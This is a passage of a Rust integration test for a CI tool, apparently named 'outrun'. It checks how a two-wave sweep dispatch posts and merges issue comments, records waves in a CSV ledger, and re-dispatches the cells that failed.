    );
    let (code, _, err) = common::run(env.project.cmd().args(["generate"]));
    assert_eq!(code, 0, "{err}");
    let all = cells(&env.project);
    // Wave 1 runs cells 0 (ok) and 1 (fails); wave 2 runs cell 256 (fails).
    let spec = |i: usize, wave: u32, c: Conclusion| -> CellSpec {
        shard_with(&all[i].0, &all[i].1, c, 10, "2026-11-26T00:01:00Z").in_wave(wave)
    };
    {
        let st = env.fake.state();
        let mut st = st.lock().unwrap();
        let wf = st
            .workflows
            .iter_mut()
            .find(|w| w.file_name == "outrun-sweep.yml")
            .unwrap();
        wf.shards = vec![
            spec(0, 1, Conclusion::Success),
            spec(1, 1, Conclusion::Failure),
            spec(256, 2, Conclusion::Failure),
        ];
    }
    env.run_clock();
    let d = env.json(env.outrun().args(["dispatch", "sweep", "--ref", "main"]), 0);
    let waves = d["waves"].as_array().unwrap();
    let group = waves[0]["group"].as_str().unwrap().to_string();
    let runs: Vec<String> = waves
        .iter()
        .map(|w| w["run_id"].as_u64().unwrap().to_string())
        .collect();
    // Wave 2's status job: its "run started" comment counts its 44 cells, not the 300.
    let (code, _, err) = common::run(env.outrun().args([
        "announce", &runs[1], "--issue", "7", "--wave", "2", "--json",
    ]));
    assert_eq!(code, 0, "{err}");
    let started = env.comments().pop().unwrap();
    assert!(
        started.contains(&format!(
            "44 cell(s) selected (wave 2 of 2 of dispatch `{group}`, 300 cells in all)"
        )),
        "{started}"
    );
    for run in &runs {
        let _ = common::run(env.outrun().args(["watch", run, "--json"]));
    }
    // Wave 2 first: the comment shows it, and wave 1 as still to come.
    let c = env.json(env.outrun().args(["collect", &runs[1], "--comment"]), 1);
    assert!(c["collected"]["comment_skipped"].is_null(), "{c}");
    let comment = env.comments().pop().unwrap();
    assert!(
        comment.contains(&format!("### All waves of dispatch `{group}`"))
            && comment.contains("| 1 | running or not collected yet | 256 | | |")
            && comment.contains("All waves: 1 of 2 collected, 44 cells: 0 ok, 44 did not succeed; 256 cells not collected yet."),
        "{comment}"
    );
    // Wave 1 started first, and is collected last: its report (with both waves) replaces
    // wave 2's; its failed cell and wave 2's both show.
    let c = env.json(env.outrun().args(["collect", &runs[0], "--comment"]), 1);
    assert!(c["collected"]["comment_skipped"].is_null(), "{c}");
    assert_eq!(c["report"]["group"]["waves"].as_array().unwrap().len(), 2);
    let comments = env.comments();
    assert_eq!(comments.len(), 1);
    let comment = &comments[0];
    assert!(
        comment.contains(&format!("| 1 | [{}]", runs[0]))
            && comment.contains(&format!("| 2 | [{}]", runs[1]))
            && comment.contains(&format!("255: `{}`", all[1].0))
            && comment.contains(&format!("44: `{}`", all[256].0))
            && comment.contains("All waves: 2 of 2 collected, 300 cells: 1 ok, 299 did not succeed; 0 cells not collected yet."),
        "{comment}"
    );
    // A wave's "started" comment, late, does not hide the two waves' results.
    let (code, out, err) = common::run(env.outrun().args([
        "announce", &runs[1], "--issue", "7", "--wave", "2", "--json",
    ]));
    assert_eq!(code, 0, "{err}");
    let skipped: Value = serde_json::from_str(&out).unwrap();
    assert!(skipped["comment_skipped"].is_string(), "{skipped}");
    assert_eq!(env.comments(), comments);
    // The ledger says which wave of which dispatch each run is.
    let ledger = env.project.read("data/evaluation/sweep.runs.csv");
    assert!(
        ledger
            .lines()
            .next()
            .unwrap()
            .ends_with(",group,wave,waves"),
        "{ledger}"
    );
    assert!(
        ledger.contains(&format!(",{group},1,2")) && ledger.contains(&format!(",{group},2,2")),
        "{ledger}"
    );
    // --failed-from wave 2's run: the failed cells of both waves, said so.
    let (code, out, err) = common::run(env.outrun().args([
        "dispatch",
        "sweep",
        "--ref",
        "main",
        "--failed-from",
        &runs[1],
        "--json",
    ]));
    assert_eq!(code, 0, "{out}\n{err}");
    assert!(
        err.contains(&format!(
            "is wave 2 of 2 of dispatch {group}: taking the cells that did not succeed in all of its collected waves (1, 2)"
        )),
        "{err}"
    );
    let again: Value = serde_json::from_str(&out).unwrap();
    let run = again["record"]["run_id"].as_u64().unwrap().to_string();
    let st = env.fake.state();
    let st = st.lock().unwrap();
    let asked = st
        .runs
        .iter()
        .find(|r| r.id.to_string() == run)
        .unwrap()
        .inputs["cells"]
        .as_str()
        .unwrap()
        .to_string();
    let asked: Vec<&str> = asked.split(',').collect();
    assert_eq!(asked.len(), 299, "{asked:?}");
    assert!(asked.contains(&all[1].0.as_str()) && asked.contains(&all[256].0.as_str()));
    assert!(!asked.contains(&all[0].0.as_str()));
}
